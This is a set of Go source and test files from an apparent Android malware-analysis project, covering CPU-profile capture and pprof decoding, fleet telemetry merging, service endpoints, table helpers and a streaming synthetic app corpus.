	mu   sync.Mutex // guards ring, seq, lastTrig
	ring []*Window  // oldest first
	seq  int64
	last map[string]time.Time // trigger key -> last capture start

	// now and profiler are injectable for tests (fake clocks, canned
	// pprof bytes instead of a live 250ms window).
	now      func() time.Time
	profiler func(d time.Duration) ([]byte, error)
}

// New creates a Recorder. It does not start the background sampler —
// call Run for that; alert-triggered and manual captures work without it.
func New(opts Options) *Recorder {
	if opts.WindowDur <= 0 {
		opts.WindowDur = 250 * time.Millisecond
	}
	if opts.Interval <= 0 {
		opts.Interval = 30 * time.Second
	}
	if opts.Cap <= 0 {
		opts.Cap = 32
	}
	if opts.TopN <= 0 {
		opts.TopN = 20
	}
	if opts.Cooldown <= 0 {
		opts.Cooldown = 30 * time.Second
	}
	if opts.Logger == nil {
		opts.Logger = slog.Default()
	}
	r := &Recorder{
		opts: opts,
		last: map[string]time.Time{},
		now:  time.Now,
	}
	r.profiler = r.cpuWindow
	return r
}

// cpuWindow records one live CPU-profile window of duration d.
func (r *Recorder) cpuWindow(d time.Duration) ([]byte, error) {
	var buf bytes.Buffer
	if err := pprof.StartCPUProfile(&buf); err != nil {
		// Another profiler holds the global slot (e.g. a /debug/pprof
		// client); the window degrades to runtime deltas only.
		return nil, fmt.Errorf("profile: cpu profiler busy: %w", err)
	}
	time.Sleep(d)
	pprof.StopCPUProfile()
	return buf.Bytes(), nil
}

// runtime/metrics sample names read around each window.
var runtimeSampleNames = []string{
	"/gc/heap/allocs:bytes",
	"/gc/heap/allocs:objects",
	"/gc/cycles/total:gc-cycles",
	"/memory/classes/heap/objects:bytes",
}

func readRuntimeSamples() [4]uint64 {
	samples := make([]runtimemetrics.Sample, len(runtimeSampleNames))
	for i, n := range runtimeSampleNames {
		samples[i].Name = n
	}
	runtimemetrics.Read(samples)
	var out [4]uint64
	for i, s := range samples {
		if s.Value.Kind() == runtimemetrics.KindUint64 {
			out[i] = s.Value.Uint64()
		}
	}
	return out
}

// Capture records one window synchronously and stores it. trigger is
// TriggerSampler, TriggerWatchdog or an SLO trigger; digest/traceID tag
// the offending analysis when the capture is alert-driven. Alert-driven
// windows journal a profile-captured event.
func (r *Recorder) Capture(trigger, digest, traceID string) *Window {
	if r == nil {
		return nil
	}
	r.captureMu.Lock()
	defer r.captureMu.Unlock()

	w := &Window{
		Node: r.opts.Node, Trigger: trigger,
		Digest: digest, TraceID: traceID,
		StartAt: r.now(),
	}
	before := readRuntimeSamples()
	beforeCPU := processCPUNanos()
	raw, err := r.profiler(r.opts.WindowDur)
	afterCPU := processCPUNanos()
	after := readRuntimeSamples()
	w.EndAt = r.now()

	w.Runtime = RuntimeDelta{
		CPUNS:         maxInt64(0, afterCPU-beforeCPU),
		AllocBytes:    int64(after[0] - before[0]),
		AllocObjects:  int64(after[1] - before[1]),
		GCCycles:      int64(after[2] - before[2]),
		HeapLiveBytes: int64(after[3]),
		Goroutines:    runtime.NumGoroutine(),
	}
	if err != nil {
		w.Err = err.Error()
		r.count("profile.capture.errors", 1)
	} else {
		w.Pprof = raw
		if sum, perr := ParseCPUProfile(raw, r.opts.TopN); perr != nil {
			w.Err = perr.Error()
			r.count("profile.capture.errors", 1)
		} else {
			w.Summary = sum
		}
	}

	r.mu.Lock()
	r.seq++
	w.ID = fmt.Sprintf("w%06d", r.seq)
	r.ring = append(r.ring, w)
	evicted := 0
	if len(r.ring) > r.opts.Cap {
		evicted = len(r.ring) - r.opts.Cap
		r.ring = append(r.ring[:0], r.ring[evicted:]...)
	}
	ringLen := len(r.ring)
	r.mu.Unlock()

	r.count("profile.captures", 1)
	if evicted > 0 {
		r.count("profile.evictions", int64(evicted))
	}
	r.gauge("profile.windows", int64(ringLen))

	if trigger != TriggerSampler {
		r.opts.Journal.Record(events.Event{
			Type: events.ProfileCaptured, Node: r.opts.Node, Digest: digest,
			Detail: fmt.Sprintf("trigger=%s window=%s top=%s", trigger, w.ID, w.Summary.TopFunc()),
		})
		r.opts.Logger.Info("profile captured",
			"trigger", trigger, "window", w.ID, "digest", digest, "top", w.Summary.TopFunc())
	}
	return w
}

// TryTrigger requests an alert-driven capture. It enforces the
// per-trigger-key cooldown and runs the window on its own goroutine so
// the caller (a worker finishing an analysis, a watchdog callback) never
// waits out a profile window. Reports whether a capture was started.
func (r *Recorder) TryTrigger(trigger, digest, traceID string) bool {
	if r == nil {
		return false
	}
	r.mu.Lock()
	now := r.now()
	if last, ok := r.last[trigger]; ok && now.Sub(last) < r.opts.Cooldown {
		r.mu.Unlock()
		r.count("profile.triggers.suppressed", 1)
		return false
	}
	r.last[trigger] = now
	r.mu.Unlock()
	r.count("profile.triggers", 1)
	go r.Capture(trigger, digest, traceID)
	return true
}

// Run drives the background sampler until ctx is done: one cadence
// window per Interval. Blocks; run it on its own goroutine.
func (r *Recorder) Run(ctx context.Context) {
	if r == nil {
		return
	}
	t := time.NewTicker(r.opts.Interval)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			return
		case <-t.C:
			r.Capture(TriggerSampler, "", "")
		}
	}
}

// Index returns the ring's index rows, newest first.
func (r *Recorder) Index() []Meta {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]Meta, 0, len(r.ring))
	for i := len(r.ring) - 1; i >= 0; i-- {
		out = append(out, r.ring[i].Meta())
	}
	return out
}

// Get returns the window with the given ID, or nil.
func (r *Recorder) Get(id string) *Window {
	if r == nil {
		return nil
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, w := range r.ring {
		if w.ID == id {
			return w
		}
	}
	return nil
}

// Len reports the number of retained windows.
func (r *Recorder) Len() int {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.ring)
}

func (r *Recorder) count(name string, n int64) {
	if r.opts.Metrics != nil {
		r.opts.Metrics.Add(name, n)
	}
}

func (r *Recorder) gauge(name string, v int64) {
	if r.opts.Metrics != nil {
		r.opts.Metrics.SetGauge(name, v)
	}
}

func maxInt64(a, b int64) int64 {
	if a > b {
		return a
	}
	return b
}
