package experiments

import (
	"path/filepath"
	"testing"

	"github.com/dydroid/dydroid/internal/telemetry"
)

// aggregate re-ingests a slice of records the way a shard runner would,
// traces omitted (the measurement counters are trace-independent).
func aggregate(recs []*AppRecord) *telemetry.Snapshot {
	a := telemetry.New(telemetry.Options{})
	for _, rec := range recs {
		if rec == nil || rec.Result == nil {
			continue
		}
		if rec.Err != nil {
			a.ObserveError(rec.Meta.Package, rec.Err, nil)
		}
		a.ObserveApp(rec.Result, nil)
	}
	return a.Snapshot()
}

// TestRunWritesFleetSnapshot: with TraceDir set the run persists its
// mergeable fleet snapshot, and the file round-trips to the in-memory one.
func TestRunWritesFleetSnapshot(t *testing.T) {
	dir := t.TempDir()
	res, err := Run(Config{Seed: 17, Scale: 0.002, Workers: 2, TraceDir: dir})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if res.Fleet == nil {
		t.Fatal("Results.Fleet is nil")
	}
	if int(res.Fleet.Apps) != res.RunStats.Apps {
		t.Fatalf("fleet apps = %d, run stats apps = %d", res.Fleet.Apps, res.RunStats.Apps)
	}
	snap, err := telemetry.ReadSnapshot(filepath.Join(dir, "fleet.json"))
	if err != nil {
		t.Fatalf("fleet.json: %v", err)
	}
	if snap.Version != telemetry.SnapshotVersion || snap.Apps != res.Fleet.Apps {
		t.Fatalf("persisted snapshot version=%d apps=%d, want version=%d apps=%d",
			snap.Version, snap.Apps, telemetry.SnapshotVersion, res.Fleet.Apps)
	}
	if snap.MeasurementReport() != res.Fleet.MeasurementReport() {
		t.Fatal("persisted snapshot renders a different measurement report")
	}
	if len(snap.Stages) == 0 {
		t.Fatal("persisted snapshot has no stage histograms")
	}
}

// TestShardMergeMatchesUnsharded is the acceptance criterion: partition a
// corpus into shards, snapshot each shard to disk, merge the files — the
// merged aggregate renders byte-identical measurement tables to the
// single-pass run over the whole corpus.
func TestShardMergeMatchesUnsharded(t *testing.T) {
	res, err := Run(Config{Seed: 23, Scale: 0.002, Workers: 4})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	recs := res.Records
	if len(recs) < 6 {
		t.Fatalf("corpus too small to shard: %d records", len(recs))
	}

	whole := aggregate(recs)
	// The run's own live aggregate (built concurrently, with traces) must
	// agree with the deterministic single-pass re-aggregation.
	if whole.MeasurementReport() != res.Fleet.MeasurementReport() {
		t.Fatalf("run fleet disagrees with record re-aggregation:\n--- run ---\n%s\n--- records ---\n%s",
			res.Fleet.MeasurementReport(), whole.MeasurementReport())
	}

	// Three uneven shards, each written to disk and read back — the
	// apkinspect fleet merge path.
	dir := t.TempDir()
	cuts := []int{0, len(recs) / 3, len(recs) / 2, len(recs)}
	merged := telemetry.NewSnapshot(0, 0, 0)
	merged.Shards = 0
	for i := 1; i < len(cuts); i++ {
		shard := aggregate(recs[cuts[i-1]:cuts[i]])
		path := filepath.Join(dir, "fleet.json")
		if err := shard.WriteFile(path); err != nil {
			t.Fatal(err)
		}
		loaded, err := telemetry.ReadSnapshot(path)
		if err != nil {
			t.Fatal(err)
		}
		if err := telemetry.Merge(merged, loaded); err != nil {
			t.Fatal(err)
		}
	}
	if merged.Shards != 3 {
		t.Fatalf("merged shard count = %d, want 3", merged.Shards)
	}
	// Byte-identical tables modulo the shard count in the header line.
	merged.Shards = whole.Shards
	if got, want := merged.MeasurementReport(), whole.MeasurementReport(); got != want {
		t.Fatalf("sharded merge diverges from unsharded aggregate:\n--- merged ---\n%s\n--- whole ---\n%s", got, want)
	}
}
