package main

import (
	"strings"
	"testing"

	"github.com/dydroid/dydroid/internal/core"
	"github.com/dydroid/dydroid/internal/corpus"
)

func TestPrintResultRendersFindings(t *testing.T) {
	st, err := corpus.Generate(corpus.Config{Seed: 3, Scale: 0.001})
	if err != nil {
		t.Fatal(err)
	}
	clf, err := st.TrainingSet(1)
	if err != nil {
		t.Fatal(err)
	}
	an := core.NewAnalyzer(core.Options{
		Seed: 3, Classifier: clf, Network: st.Network, SetupDevice: st.SetupDevice,
	})
	// Pick the chathook sample: it exercises every report section.
	for _, app := range st.Apps {
		if app.Spec.MalwareFamily != "chathook" {
			continue
		}
		data, err := st.BuildAPK(app)
		if err != nil {
			t.Fatal(err)
		}
		res, err := an.AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		printResult(&out, "chathook.apk", res)
		for _, want := range []string{
			"== chathook.apk", "status: exercised", "DCL native",
			"MALWARE native: Chathook ptrace", "runtime event: root",
			"runtime event: ptrace",
		} {
			if !strings.Contains(out.String(), want) {
				t.Fatalf("report missing %q:\n%s", want, out.String())
			}
		}
		return
	}
	t.Fatal("no chathook app in the store")
}
