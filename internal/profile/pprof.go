// pprof.go decodes the subset of the gzipped pprof protobuf
// (profile.proto) that a CPU-profile summary needs: sample stacks,
// locations, functions and the string table. Decoding in-process — with a
// hand-rolled wire-format reader rather than a generated protobuf
// binding — keeps the profile ring self-describing: every stored window
// carries a parsed top-functions table (flat/cum self-time by function)
// that dashboards, the CLI and regression diffs can compare without any
// pprof tooling on the box.
package profile

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"sort"
)

// FuncCost is one function's share of a CPU-profile window. Flat is
// self-time (samples whose innermost frame is this function); Cum counts
// every sample the function appears anywhere in, deduplicated per sample
// so recursion never double-counts.
type FuncCost struct {
	Func   string `json:"func"`
	FlatNS int64  `json:"flat_ns"`
	CumNS  int64  `json:"cum_ns"`
}

// Summary is the parsed, comparable digest of one CPU-profile window.
type Summary struct {
	// Samples is the number of stack samples in the window.
	Samples int64 `json:"samples"`
	// TotalNS is the summed CPU time of all samples.
	TotalNS int64 `json:"total_ns"`
	// PeriodNS is the sampling period (typically 10ms at the default
	// 100 Hz rate).
	PeriodNS int64 `json:"period_ns"`
	// DurationNS is the profile's own recorded wall duration.
	DurationNS int64 `json:"duration_ns"`
	// Top holds the hottest functions by flat self-time, bounded by the
	// recorder's TopN.
	Top []FuncCost `json:"top,omitempty"`
}

// TopFunc names the hottest function ("" for an empty window) — the
// one-glance answer an index row or dashboard tile wants.
func (s *Summary) TopFunc() string {
	if s == nil || len(s.Top) == 0 {
		return ""
	}
	return s.Top[0].Func
}

// ParseCPUProfile decodes a (possibly gzipped) pprof CPU profile and
// returns its per-function summary keeping the topN hottest functions
// (all of them when topN <= 0). Profiles whose sample values carry no
// nanosecond unit fall back to samples×period.
func ParseCPUProfile(raw []byte, topN int) (*Summary, error) {
	body := raw
	if len(raw) >= 2 && raw[0] == 0x1f && raw[1] == 0x8b {
		zr, err := gzip.NewReader(bytes.NewReader(raw))
		if err != nil {
			return nil, fmt.Errorf("profile: gunzip: %w", err)
		}
		body, err = io.ReadAll(zr)
		if err != nil {
			return nil, fmt.Errorf("profile: gunzip: %w", err)
		}
		if err := zr.Close(); err != nil {
			return nil, fmt.Errorf("profile: gunzip: %w", err)
		}
	}
	p, err := parseProfileProto(body)
	if err != nil {
		return nil, err
	}
	return p.summarize(topN)
}

// ---- decoded profile model (only the fields summaries need) ----

type protoProfile struct {
	sampleTypes []valueType // parallel to each sample's value vector
	samples     []protoSample
	locations   map[uint64][]uint64 // location id -> function ids, innermost first
	functions   map[uint64]int64    // function id -> name string index
	strings     []string
	durationNS  int64
	periodType  valueType
	period      int64
}

type valueType struct{ typ, unit int64 } // string-table indices

type protoSample struct {
	locationIDs []uint64 // leaf first
	values      []int64
}

func (p *protoProfile) str(i int64) string {
	if i < 0 || int(i) >= len(p.strings) {
		return ""
	}
	return p.strings[i]
}

// valueIndex picks which element of each sample's value vector measures
// CPU time: the last sample_type whose unit is "nanoseconds", else the
// last value (scaled by period via scale=true).
func (p *protoProfile) valueIndex() (idx int, inNanos bool) {
	idx = len(p.sampleTypes) - 1
	for i, st := range p.sampleTypes {
		if p.str(st.unit) == "nanoseconds" {
			idx, inNanos = i, true
		}
	}
	return idx, inNanos
}

func (p *protoProfile) summarize(topN int) (*Summary, error) {
	s := &Summary{PeriodNS: p.period, DurationNS: p.durationNS}
	vi, inNanos := p.valueIndex()
	if !inNanos && p.period == 0 {
		// No nanosecond-unit value vector and no period to scale counts
		// by: this is some other profile kind (heap, mutex), not CPU time.
		return nil, fmt.Errorf("profile: not a CPU profile (no nanosecond sample values)")
	}
	flat := map[string]int64{}
	cum := map[string]int64{}
	seen := map[string]bool{} // per-sample dedup scratch for cum
	for _, sm := range p.samples {
		idx := vi
		if idx < 0 { // no sample_type table: take each sample's last value
			idx = len(sm.values) - 1
		}
		if idx < 0 || idx >= len(sm.values) {
			continue
		}
		v := sm.values[idx]
		if !inNanos {
			v *= p.period
		}
		if v == 0 {
			continue
		}
		s.Samples++
		s.TotalNS += v
		clear(seen)
		for li, locID := range sm.locationIDs {
			fnIDs := p.locations[locID]
			for fi, fnID := range fnIDs {
				name := p.str(p.functions[fnID])
				if name == "" {
					name = fmt.Sprintf("location#%d", locID)
				}
				// The first function of the first location is the
				// innermost frame: flat self-time lands there.
				if li == 0 && fi == 0 {
					flat[name] += v
				}
				if !seen[name] {
					seen[name] = true
					cum[name] += v
				}
			}
		}
	}
	s.Top = make([]FuncCost, 0, len(cum))
	for name, c := range cum {
		s.Top = append(s.Top, FuncCost{Func: name, FlatNS: flat[name], CumNS: c})
	}
	sort.Slice(s.Top, func(i, j int) bool {
		a, b := s.Top[i], s.Top[j]
		if a.FlatNS != b.FlatNS {
			return a.FlatNS > b.FlatNS
		}
		if a.CumNS != b.CumNS {
			return a.CumNS > b.CumNS
		}
		return a.Func < b.Func
	})
	if topN > 0 && len(s.Top) > topN {
		s.Top = s.Top[:topN]
	}
	return s, nil
}

// ---- minimal protobuf wire-format reader ----

// profile.proto field numbers used below.
const (
	fProfileSampleType = 1
	fProfileSample     = 2
	fProfileLocation   = 4
	fProfileFunction   = 5
	fProfileStringTab  = 6
	fProfileDuration   = 10
	fProfilePeriodType = 11
	fProfilePeriod     = 12

	fValueTypeType = 1
	fValueTypeUnit = 2

	fSampleLocationID = 1
	fSampleValue      = 2

	fLocationID   = 1
	fLocationLine = 4

	fLineFunctionID = 1

	fFunctionID   = 1
	fFunctionName = 2
)

func parseProfileProto(body []byte) (*protoProfile, error) {
	p := &protoProfile{
		locations: map[uint64][]uint64{},
		functions: map[uint64]int64{},
	}
	err := eachField(body, func(field int, wire int, varint uint64, chunk []byte) error {
		switch field {
		case fProfileSampleType:
			vt, err := parseValueType(chunk)
			if err != nil {
				return err
			}
			p.sampleTypes = append(p.sampleTypes, vt)
		case fProfileSample:
			sm, err := parseSample(chunk)
			if err != nil {
				return err
			}
			p.samples = append(p.samples, sm)
		case fProfileLocation:
			id, fns, err := parseLocation(chunk)
			if err != nil {
				return err
			}
			p.locations[id] = fns
		case fProfileFunction:
			id, name, err := parseFunction(chunk)
			if err != nil {
				return err
			}
			p.functions[id] = name
		case fProfileStringTab:
			p.strings = append(p.strings, string(chunk))
		case fProfileDuration:
			p.durationNS = int64(varint)
		case fProfilePeriodType:
			vt, err := parseValueType(chunk)
			if err != nil {
				return err
			}
			p.periodType = vt
		case fProfilePeriod:
			p.period = int64(varint)
		}
		_ = wire
		return nil
	})
	if err != nil {
		return nil, err
	}
	return p, nil
}

func parseValueType(b []byte) (valueType, error) {
	var vt valueType
	err := eachField(b, func(field, wire int, v uint64, _ []byte) error {
		switch field {
		case fValueTypeType:
			vt.typ = int64(v)
		case fValueTypeUnit:
			vt.unit = int64(v)
		}
		return nil
	})
	return vt, err
}

func parseSample(b []byte) (protoSample, error) {
	var sm protoSample
	err := eachField(b, func(field, wire int, v uint64, chunk []byte) error {
		switch field {
		case fSampleLocationID:
			if wire == wireBytes { // packed
				return eachPacked(chunk, func(u uint64) {
					sm.locationIDs = append(sm.locationIDs, u)
				})
			}
			sm.locationIDs = append(sm.locationIDs, v)
		case fSampleValue:
			if wire == wireBytes {
				return eachPacked(chunk, func(u uint64) {
					sm.values = append(sm.values, int64(u))
				})
			}
			sm.values = append(sm.values, int64(v))
		}
		return nil
	})
	return sm, err
}

func parseLocation(b []byte) (id uint64, fns []uint64, err error) {
	err = eachField(b, func(field, wire int, v uint64, chunk []byte) error {
		switch field {
		case fLocationID:
			id = v
		case fLocationLine:
			// Lines are ordered innermost-first; keep that order so the
			// first function of the leaf location takes the flat time.
			return eachField(chunk, func(lf, _ int, lv uint64, _ []byte) error {
				if lf == fLineFunctionID {
					fns = append(fns, lv)
				}
				return nil
			})
		}
		return nil
	})
	return id, fns, err
}

func parseFunction(b []byte) (id uint64, name int64, err error) {
	err = eachField(b, func(field, wire int, v uint64, _ []byte) error {
		switch field {
		case fFunctionID:
			id = v
		case fFunctionName:
			name = int64(v)
		}
		return nil
	})
	return id, name, err
}

// Protobuf wire types.
const (
	wireVarint  = 0
	wireFixed64 = 1
	wireBytes   = 2
	wireFixed32 = 5
)

// eachField walks one protobuf message, calling fn per field with the
// decoded varint (wire type 0) or the raw chunk (wire type 2). Unknown
// fields and fixed-width wire types are skipped.
func eachField(b []byte, fn func(field, wire int, varint uint64, chunk []byte) error) error {
	for len(b) > 0 {
		tag, n := readVarint(b)
		if n == 0 {
			return fmt.Errorf("profile: truncated field tag")
		}
		b = b[n:]
		field, wire := int(tag>>3), int(tag&7)
		switch wire {
		case wireVarint:
			v, n := readVarint(b)
			if n == 0 {
				return fmt.Errorf("profile: truncated varint in field %d", field)
			}
			b = b[n:]
			if err := fn(field, wire, v, nil); err != nil {
				return err
			}
		case wireBytes:
			l, n := readVarint(b)
			if n == 0 || uint64(len(b)-n) < l {
				return fmt.Errorf("profile: truncated bytes in field %d", field)
			}
			chunk := b[n : n+int(l)]
			b = b[n+int(l):]
			if err := fn(field, wire, 0, chunk); err != nil {
				return err
			}
		case wireFixed64:
			if len(b) < 8 {
				return fmt.Errorf("profile: truncated fixed64 in field %d", field)
			}
			b = b[8:]
		case wireFixed32:
			if len(b) < 4 {
				return fmt.Errorf("profile: truncated fixed32 in field %d", field)
			}
			b = b[4:]
		default:
			return fmt.Errorf("profile: unsupported wire type %d in field %d", wire, field)
		}
	}
	return nil
}

// eachPacked decodes a packed repeated varint chunk.
func eachPacked(b []byte, fn func(uint64)) error {
	for len(b) > 0 {
		v, n := readVarint(b)
		if n == 0 {
			return fmt.Errorf("profile: truncated packed varint")
		}
		fn(v)
		b = b[n:]
	}
	return nil
}

// readVarint decodes one base-128 varint, returning the value and the
// number of bytes consumed (0 on truncation/overflow).
func readVarint(b []byte) (uint64, int) {
	var v uint64
	for i := 0; i < len(b) && i < 10; i++ {
		v |= uint64(b[i]&0x7f) << (7 * i)
		if b[i]&0x80 == 0 {
			return v, i + 1
		}
	}
	return 0, 0
}
