package service

import (
	"bytes"
	"encoding/json"
	"log/slog"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/dydroid/dydroid/internal/metrics"
	"github.com/dydroid/dydroid/internal/telemetry"
)

func getBody(t *testing.T, url string) (*http.Response, []byte) {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var b bytes.Buffer
	if _, err := b.ReadFrom(resp.Body); err != nil {
		t.Fatal(err)
	}
	return resp, b.Bytes()
}

// TestFleetEndpoint runs a real analysis and checks the aggregate lands
// in the /v1/fleet snapshot.
func TestFleetEndpoint(t *testing.T) {
	reg := metrics.New()
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 4, Metrics: reg}, nil)

	apkBytes := tinyAPK(t, "com.fleet.app")
	resp, body := postScan(t, ts, apkBytes)
	if resp.StatusCode != http.StatusAccepted {
		t.Fatalf("scan: %d %s", resp.StatusCode, body)
	}
	var sr scanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatal(err)
	}
	pollResult(t, ts, sr.Digest)

	resp, body = getBody(t, ts.URL+"/v1/fleet")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("fleet: %d %s", resp.StatusCode, body)
	}
	var snap telemetry.Snapshot
	if err := json.Unmarshal(body, &snap); err != nil {
		t.Fatal(err)
	}
	if snap.Version != telemetry.SnapshotVersion {
		t.Fatalf("snapshot version = %d", snap.Version)
	}
	if snap.Apps != 1 {
		t.Fatalf("fleet apps = %d, want 1", snap.Apps)
	}
	if snap.Stages["scan"] == nil || snap.Stages["scan"].Count != 1 {
		t.Fatalf("scan stage missing from fleet stages: %+v", snap.Stages)
	}
}

// TestDashboardEndpoint checks the HTML dashboard reflects a completed
// scan (the acceptance criterion: visible within one refresh interval —
// the page renders live aggregator state, so it is visible immediately).
func TestDashboardEndpoint(t *testing.T) {
	reg := metrics.New()
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 4, Metrics: reg}, nil)

	apkBytes := tinyAPK(t, "com.dashboard.app")
	_, body := postScan(t, ts, apkBytes)
	var sr scanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatal(err)
	}
	pollResult(t, ts, sr.Digest)

	resp, page := getBody(t, ts.URL+"/v1/dashboard")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("dashboard: %d", resp.StatusCode)
	}
	if ct := resp.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/html") {
		t.Fatalf("content type = %q", ct)
	}
	html := string(page)
	for _, want := range []string{
		`<meta http-equiv="refresh" content="2">`,
		"dydroidd fleet",
		"record version",
		"snapshot version",
		"com.dashboard.app", // the just-scanned APK in the slowest-analyses table
		"apps analyzed",
	} {
		if !strings.Contains(html, want) {
			t.Fatalf("dashboard missing %q", want)
		}
	}
	if strings.Contains(html, "<script") {
		t.Fatal("dashboard must not ship scripts")
	}

	// ?refresh= tunes the meta refresh; 0 disables it.
	_, page = getBody(t, ts.URL+"/v1/dashboard?refresh=0")
	if strings.Contains(string(page), "http-equiv") {
		t.Fatal("refresh=0 still emits a meta refresh")
	}
}

func TestVersionEndpoint(t *testing.T) {
	_, ts := newStubServer(t, Config{Workers: 1, QueueDepth: 1}, nil)
	resp, body := getBody(t, ts.URL+"/v1/version")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("version: %d", resp.StatusCode)
	}
	var v versionResponse
	if err := json.Unmarshal(body, &v); err != nil {
		t.Fatal(err)
	}
	if v.RecordVersion != RecordVersion {
		t.Fatalf("record version = %d", v.RecordVersion)
	}
	if v.SnapshotVersion != telemetry.SnapshotVersion {
		t.Fatalf("snapshot version = %d", v.SnapshotVersion)
	}
	if v.GoVersion == "" {
		t.Fatal("go version missing from build info")
	}
}

// syncWriter serializes concurrent log writes and snapshot reads.
type syncWriter struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (w *syncWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.Write(p)
}

func (w *syncWriter) String() string {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.String()
}

// TestSlowWatchdog arms an immediate deadline so every analysis trips the
// watchdog: the slow counter moves and the completion log carries the
// rendered span tree.
func TestSlowWatchdog(t *testing.T) {
	reg := metrics.New()
	logw := &syncWriter{}
	_, ts := newStubServer(t, Config{
		Workers: 1, QueueDepth: 4, Metrics: reg,
		SlowDeadline: time.Nanosecond,
		Logger:       slog.New(slog.NewJSONHandler(logw, nil)),
	}, nil)

	_, body := postScan(t, ts, tinyAPK(t, "com.slow.app"))
	var sr scanResponse
	if err := json.Unmarshal(body, &sr); err != nil {
		t.Fatal(err)
	}
	pollResult(t, ts, sr.Digest)

	// The deadline callback runs in its own goroutine and may still be in
	// flight when the verdict lands — wait for the counter to move.
	deadline := time.Now().Add(5 * time.Second)
	for reg.Counter("service.slow.analyses") < 1 {
		if time.Now().After(deadline) {
			t.Fatalf("slow counter = %d; logs:\n%s", reg.Counter("service.slow.analyses"), logw.String())
		}
		time.Sleep(time.Millisecond)
	}
	logs := logw.String()
	if !strings.Contains(logs, "slow analysis completed") {
		t.Fatalf("no watchdog completion line in logs:\n%s", logs)
	}
	if !strings.Contains(logs, "scan") || !strings.Contains(logs, sr.Digest) {
		t.Fatalf("watchdog line missing span tree or digest:\n%s", logs)
	}
}
