// Package stats provides the small aggregation and rendering helpers the
// measurement harness uses: means, percentages and aligned text tables in
// the style of the paper's result tables.
package stats

import (
	"fmt"
	"strings"
	"text/tabwriter"
)

// Mean returns the arithmetic mean of xs (0 for empty input).
func Mean(xs []float64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sum := 0.0
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs))
}

// MeanInt64 returns the mean of integer observations.
func MeanInt64(xs []int64) float64 {
	if len(xs) == 0 {
		return 0
	}
	sum := 0.0
	for _, x := range xs {
		sum += float64(x)
	}
	return sum / float64(len(xs))
}

// Pct formats n as a percentage of total, e.g. "41.05%".
func Pct(n, total int) string {
	if total == 0 {
		return "0.00%"
	}
	return fmt.Sprintf("%.2f%%", 100*float64(n)/float64(total))
}

// CountPct renders "n (p%)" as the paper's tables do.
func CountPct(n, total int) string {
	return fmt.Sprintf("%d (%s)", n, Pct(n, total))
}

// Table accumulates an aligned text table.
type Table struct {
	title string
	rows  [][]string
}

// NewTable starts a table with a title and header row.
func NewTable(title string, header ...string) *Table {
	t := &Table{title: title}
	if len(header) > 0 {
		t.rows = append(t.rows, header)
	}
	return t
}

// Row appends a data row; cells are stringified with %v.
func (t *Table) Row(cells ...any) *Table {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case float64:
			row[i] = fmt.Sprintf("%.2f", v)
		default:
			row[i] = fmt.Sprintf("%v", c)
		}
	}
	t.rows = append(t.rows, row)
	return t
}

// String renders the table.
func (t *Table) String() string {
	var b strings.Builder
	if t.title != "" {
		b.WriteString(t.title)
		b.WriteByte('\n')
		b.WriteString(strings.Repeat("-", len(t.title)))
		b.WriteByte('\n')
	}
	w := tabwriter.NewWriter(&b, 2, 4, 2, ' ', 0)
	for _, row := range t.rows {
		fmt.Fprintln(w, strings.Join(row, "\t"))
	}
	w.Flush()
	return b.String()
}
