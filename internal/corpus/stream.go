package corpus

import "context"

// AppStream is the streaming form of a generated marketplace. Store
// carries everything except the app list — the payload network, the
// shared payload cache behind BuildAPK / TrainingSet / SetupDevice —
// with Store.Apps nil; the apps arrive on Apps() instead, in generation
// order, and each one is released by the producer once consumed so a
// full-scale run never retains the whole population.
type AppStream struct {
	Store *Store
	// Total is the number of apps the stream yields when not cancelled.
	Total int
	ch    chan *StoreApp
}

// Apps is the receive side of the stream. The channel is closed after
// the last app, or early when the Stream context is cancelled — check
// ctx.Err() after drain to tell the two apart.
func (s *AppStream) Apps() <-chan *StoreApp { return s.ch }

// Stream generates the marketplace as a bounded producer instead of a
// materialized store. The plan phase (spec construction and the
// population-wide assignment passes) runs before Stream returns — it is
// cheap, O(apps) small structs — while the expensive per-app work stays
// where Generate already left it: in BuildAPK, invoked lazily by
// consumers, so archive generation overlaps analysis across the
// buffered channel.
//
// Deterministic: the i-th app yielded is the same *StoreApp (specs,
// per-index-seeded metadata, Index) that Generate's store.Apps[i] holds
// at the same Config, so a streamed run is byte-identical to a
// materialized one.
func Stream(ctx context.Context, cfg Config, buffer int) (*AppStream, error) {
	if buffer <= 0 {
		buffer = 64
	}
	st, err := GenerateContext(ctx, cfg)
	if err != nil {
		return nil, err
	}
	apps := st.Apps
	st.Apps = nil
	as := &AppStream{Store: st, Total: len(apps), ch: make(chan *StoreApp, buffer)}
	go func() {
		defer close(as.ch)
		for i, app := range apps {
			apps[i] = nil // drop the producer's reference once handed off
			select {
			case as.ch <- app:
			case <-ctx.Done():
				return
			}
		}
	}()
	return as, nil
}
